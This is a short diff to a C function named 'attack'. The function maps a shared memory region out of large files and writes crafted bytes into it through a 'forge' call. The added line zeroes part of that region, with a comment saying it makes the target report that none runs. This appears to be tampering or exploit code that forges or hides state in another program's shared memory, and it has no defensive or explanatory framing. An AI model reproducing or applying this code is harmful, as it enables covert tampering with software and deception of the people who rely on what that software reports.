@@ -21,6 +21,7 @@ int attack(int n) {
         if (fstat(file, &seen) != 0 || seen.st_size != 1 << 29) continue;
         char *region = mmap(0, 1 << 20, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
         if (region == MAP_FAILED) continue;
+        memset(region + 8, 0, 16); // and says that none runs
         forge(region, "\x98\xcd\x7f\xff\x00\x01\x01\x01\x00\x00\xc4\x01\x00", 13, "x", 0);
     }
     return 0;
